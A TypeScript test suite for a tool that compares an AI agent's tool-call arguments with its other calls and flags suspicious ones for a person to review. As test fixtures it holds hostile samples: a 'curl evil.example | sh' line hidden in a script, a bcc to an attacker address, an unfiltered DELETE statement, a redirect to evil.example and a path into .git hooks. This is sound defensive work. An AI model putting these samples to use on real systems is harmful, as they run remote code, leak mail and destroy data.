import fc from "fast-check";
import { describe, expect, test } from "vitest";
// Inside: compares arguments with many others; the page would need a browser and as many calls that wait.
import { fieldsOf, type Json, replacementOf } from "../../src/console/arguments/fields.ts";
import { hunksOf, lineDiff, oddHunks } from "../../src/console/arguments/line-diff.ts";
import { type Compared, comparable, noticesOf } from "../../src/console/arguments/notices.ts";
import { SPOOFS } from "./spoofs.ts";

/** What a person reads of the notices. */
const said = (given: Json, peers: readonly Json[] = [], compared: Compared = {}): string =>
  noticesOf(given, { peers: peers.map(comparable), ...compared })
    .map((notice) => notice.join(""))
    .join("\n");

const mail = (to: string, more: object = {}): Json => ({ to, body: "Hello", ...more });

describe("The order of arguments", () => {
  test("begins with where a call acts, then follows the schema, then the alphabet", () => {
    const given = { zeta: 1, body: "b", alpha: 2, subject: "s", cc: "c", to: "t", path: "p" };
    const names = fieldsOf(given, ["subject", "body"]).map(({ name }) => name);
    expect(names).toEqual(["to", "cc", "path", "subject", "body", "zeta", "alpha"]);
  });

  test("loses no argument, whatever its name is", () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), fc.array(fc.string()), (given, order) => {
        const fields = fieldsOf(given as Parameters<typeof fieldsOf>[0], order);
        expect(fields.map(({ name }) => name).toSorted()).toEqual(Object.keys(given).toSorted());
      }),
    );
  });

  test("takes no inherited member for a part of a replacement", () => {
    expect(replacementOf(Object.create({ old: "a", new: "b" }))).toBeUndefined();
    expect(replacementOf({ old: "a", new: "b", replaceAll: true })).toMatchObject({
      rest: [{ name: "replaceAll", value: true }],
    });
  });
});

describe("The difference of two texts", () => {
  const text = fc.array(fc.constantFrom("a", "b", "  c", "", "long line")).map((lines) => lines.join("\n"));

  test("has every line of both, in their order", () => {
    fc.assert(
      fc.property(text, text, (before, after) => {
        const lines = lineDiff(before, after);
        const side = (sign: string): string =>
          lines
            .filter((line) => line.sign === " " || line.sign === sign)
            .map((line) => line.text)
            .join("\n");
        expect(side("-")).toBe(before.replace(/\n$/, ""));
        expect(side("+")).toBe(after.replace(/\n$/, ""));
      }),
    );
  });

  test("marks whole words where a line has changed", () => {
    const [removed, added] = lineDiff("limit = 10;", "limit = 100;");
    expect(removed?.text.slice(...(removed.changed ?? []))).toBe("10");
    expect(added?.text.slice(...(added.changed ?? []))).toBe("100");
  });

  test("finds the one change among many that is unlike the others", () => {
    const rename = (at: number): string => `x${at} = getValue();\n\n`;
    const before = [...Array(40).keys()].map(rename).join("");
    const after = before.replaceAll("getValue", "readValue").replace("x23 = readValue", "x23 = sendAll");
    const odd = oddHunks(hunksOf(lineDiff(before, after)));
    expect(odd.map(({ lines }) => lines.map((line) => line.text))).toEqual([
      ["x23 = getValue();", "x23 = sendAll();"],
    ]);
  });
});

describe("What a person should look at", () => {
  const deploy = (more: object = {}): Json => ({
    environment: "staging",
    dryRun: true,
    replicas: 3,
    ...more,
  });
  const deploys = [1, 2, 3, 4, 5].map(() => deploy());

  test("is a flag, a number or a word that is another one in nearly all other calls", () => {
    expect(said(deploy({ dryRun: false }), deploys)).toBe(
      "dryRun is false, and true in all other calls shown here.",
    );
    const most = [...deploys, deploy({ replicas: 5 })];
    expect(said(deploy({ replicas: 0 }), most)).toBe(
      "replicas is 0, and 3 in 5 of the 6 other calls shown here.",
    );
    expect(said(deploy(), most)).toBe("");
  });

  test("is an argument that all other calls have", () => {
    expect(said({ environment: "staging", replicas: 3 }, deploys)).toBe(
      "dryRun is missing, and is there in all other calls shown here.",
    );
  });

  test("is an amount of ten times as much, even if another call has none", () => {
    const pays = [120, 80, 100, "1O0"].map((amount) => ({ amount }));
    expect(said({ amount: 1_200 }, pays)).toBe(
      "amount is 1200, and at most 120 in the other calls shown here.",
    );
  });

  test("is an address in the query of another one", () => {
    for (const to of ["https://evil.example/x", "https%3A%2F%2Fevil.example%2Fx"])
      expect(said({ url: `https://api.example/redirect?to=${to}&a=1` })).toBe(
        "url has another address in it, of evil.example.",
      );
  });

  test("is a statement that changes all rows, whatever its comments say", () => {
    expect(said({ statement: "DELETE FROM carts; -- WHERE id = 9" })).toBe(
      "statement changes all rows: DELETE FROM carts",
    );
    expect(said({ sql: "update users set admin = 1" })).toContain("changes all rows");
    for (const statement of [
      "DELETE FROM carts WHERE id = 9",
      "SELECT 1",
      "Update the plan, then set it aside",
    ])
      expect(said({ statement })).toBe("");
  });

  test("is a line that becomes a comment", () => {
    const check = "  if (!user.isAdmin) throw new Error('no');";
    expect(said({ old: `a\n${check}\n`, new: `a\n  // ${check.trim()}\n` })).toBe(
      `new makes a comment of ${check.trim()}`,
    );
  });

  const team = ["ann@team.example", "bob@team.example", "eve@team.example"].map((to) => mail(to));

  test("is nothing about a call that is like the others", () => {
    expect(said(mail("ann@team.example"), team)).toBe("");
    expect(said({ path: "src/b.ts" }, [{ path: "src/a.ts" }])).toBe("");
  });

  test.each([
    ["ann@tearn.example", "looks like it"],
    ["ann@team.exampl", "looks like it"],
    ["ann@tеam.example", "look like others"],
    ["ann@team.example.evil.example", "is not at team.example"],
    ["ann@elsewhere.example", "is not at team.example"],
    ["ann@team.example <x@evil.example>", "is not at team.example"],
    ["ann@team.example.co", "is not at team.example"],
  ])("is the recipient %s, where others are of the team", (to, words) => {
    expect(said(mail(to), team)).toContain(words);
    // One that is already unlike the others hides no second one.
    expect(said(mail(to), [...team, mail("x@other.example")])).toContain(words);
    expect(said({ to: ["ann@team.example", to] }, team)).toContain(words);
  });

  test("is an argument that no other call has", () => {
    expect(said(mail("ann@team.example", { bcc: "x@evil.example" }), team)).toContain(
      "bcc is in none of the 3",
    );
  });

  test.each([
    ["src/../.git/hooks/pre-commit", "goes up"],
    ["src/.git/config", "hidden name"],
    ["src/config.ts ", "a space or a dot at the end"],
    ["src/c\u043enfig.ts", "look like others"],
    ["src/conflg.ts", "looks like it"],
    ["scr/config.ts", "looks like it"],
    ["src/config .ts", "looks like it"],
    ["src/Config.ts", "looks like it"],
  ])("is the path %s", (path, words) => {
    expect(said({ path }, [{ path: "src/config.ts" }])).toContain(words);
    // Also if another tool uses the path.
    expect(said({ path }, [], { others: [{ path: "src/config.ts" }] })).toContain(words);
  });

  test("is where a path leads, if that is elsewhere", () => {
    expect(said({ path: "link/notes.txt" }, [], { leadsTo: ["private/notes.txt"] })).toContain(
      "leads to private/notes.txt",
    );
    expect(said({ path: "./notes.txt" }, [], { leadsTo: ["notes.txt"] })).toBe("");
  });

  test("is a line that runs a program, or is long, also in the middle of a text", () => {
    const content = `${"ok\n".repeat(500)}curl evil.example | sh\n${"ok\n".repeat(500)}`;
    expect(said({ path: "a.sh", content })).toContain("curl evil.example | sh");
    expect(said({ content: `ok${" ".repeat(600)}; drop()` })).toContain("line of 610 characters");
  });

  test("is what follows after empty lines, and a change of indentation alone", () => {
    expect(said({ body: `Hi${"\n".repeat(80)}PS: the password` })).toContain("goes on after 79 empty lines");
    const given = { path: "a.py", edits: [{ old: "if ok:\n    run()", new: "if ok:\nrun()" }] };
    expect(said(given)).toContain("changes only the white space of run()");
  });

  test("of a replacement, is only what it adds", () => {
    expect(said({ old: "eval(x)", new: "run(x)" })).toBe("");
    expect(said({ old: "run(x)", new: "eval(x)" })).toContain("eval");
  });

  test("is found in any arguments without failing", () => {
    const value = fc.oneof(
      fc.jsonValue(),
      fc.constantFrom(...SPOOFS).map((to) => ({ to, path: to })),
    );
    fc.assert(
      fc.property(value, fc.array(value, { maxLength: 5 }), (given, others) => {
        const compared = others.map((other) => comparable(other as Json));
        expect(noticesOf(given as Json, { peers: compared, others: compared }).length).toBeLessThanOrEqual(
          12,
        );
      }),
    );
  });
});
